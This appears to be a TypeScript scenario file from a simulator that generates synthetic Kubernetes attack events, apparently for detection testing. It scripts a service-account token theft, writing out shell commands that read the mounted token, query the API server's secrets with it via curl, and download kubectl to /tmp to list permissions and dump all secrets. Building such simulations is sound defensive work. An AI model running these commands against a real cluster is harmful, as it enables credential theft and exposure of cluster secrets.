/**
 * Stealing the pod's service-account token through code execution in the application: read the
 * token, call the API server with it, then download kubectl to /tmp and enumerate permissions and
 * secrets.
 */
import { podsWithShell } from "../cluster.ts";
import { SERVICE_ACCOUNT_TOKEN as TOKEN_PATH } from "../pod.ts";
import type { Rng } from "../random.ts";
import { type Story, target } from "../story.ts";

const NAMESPACE_PATH = "/var/run/secrets/kubernetes.io/serviceaccount/namespace";

function fakeJwt(rng: Rng): string {
  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
  let body = "";
  for (let i = 0; i < 120; i++) body += alphabet[rng.int(alphabet.length)];
  return `eyJhbGciOiJSUzI1NiIsImtpZCI6I${body}`;
}

export const saTokenTheft: Story = {
  name: "sa-token-theft",
  description: "service-account token read with cat, API call with curl, kubectl downloaded to /tmp and run",
  nominalEvents: 30,
  play(scene, cluster, run) {
    const rng = scene.rng;
    const pods = podsWithShell(cluster, (pod) => pod.spec.role === "web" && pod.spec.app !== "frontend");
    const container = rng.pick(pods).app;
    target(run, container);
    const main = container.main;
    if (!main) return;
    const server = container.workers.length ? rng.pick(container.workers) : main;
    const ns = container.pod.namespace;
    const read = scene.spawn(server, ["/bin/sh", "-c", `cat ${TOKEN_PATH}; cat ${NAMESPACE_PATH}`]);
    scene.run(read, ["cat", TOKEN_PATH], { ms: 2 }, (cat) => {
      scene.file(cat, "open", TOKEN_PATH);
      scene.key();
    });
    scene.run(read, ["cat", NAMESPACE_PATH], { ms: 2 }, (cat) => scene.file(cat, "open", NAMESPACE_PATH));
    scene.end(read, 0);
    scene.think(8000);
    const api = `https://10.96.0.1:443/api/v1/namespaces/${ns}/secrets`;
    const call = scene.spawn(server, [
      "/bin/sh",
      "-c",
      `curl -sk -H "Authorization: Bearer $(cat ${TOKEN_PATH})" ${api}`,
    ]);
    scene.run(call, ["cat", TOKEN_PATH], { ms: 2 }, (cat) => {
      scene.file(cat, "open", TOKEN_PATH);
      scene.key();
    });
    scene.run(call, ["curl", "-sk", "-H", `Authorization: Bearer ${fakeJwt(rng)}`, api], {
      ms: rng.between(30, 300),
    });
    scene.end(call, 0);
    scene.think(10000);
    const kubectl = "/tmp/kubectl";
    const fetch = scene.spawn(server, [
      "/bin/sh",
      "-c",
      `curl -sLo ${kubectl} https://dl.k8s.io/release/v1.30.4/bin/linux/amd64/kubectl && chmod +x ${kubectl} && ${kubectl} auth can-i --list && ${kubectl} get secrets -A -o yaml`,
    ]);
    scene.run(
      fetch,
      ["curl", "-sLo", kubectl, "https://dl.k8s.io/release/v1.30.4/bin/linux/amd64/kubectl"],
      { ms: rng.between(1000, 5000) },
      (curl) => {
        scene.file(curl, "creation", kubectl);
        scene.file(curl, "modification", kubectl);
      },
    );
    scene.run(fetch, ["chmod", "+x", kubectl], { ms: 2 }, (chmod) => scene.file(chmod, "chmod", kubectl));
    scene.run(fetch, [kubectl, "auth", "can-i", "--list"], { ms: rng.between(100, 600), key: true }, (k) =>
      scene.file(k, "open", TOKEN_PATH),
    );
    scene.run(
      fetch,
      [kubectl, "get", "secrets", "-A", "-o", "yaml"],
      { ms: rng.between(100, 900), key: true },
      (k) => scene.file(k, "open", TOKEN_PATH),
    );
    scene.end(fetch, 0);
  },
};
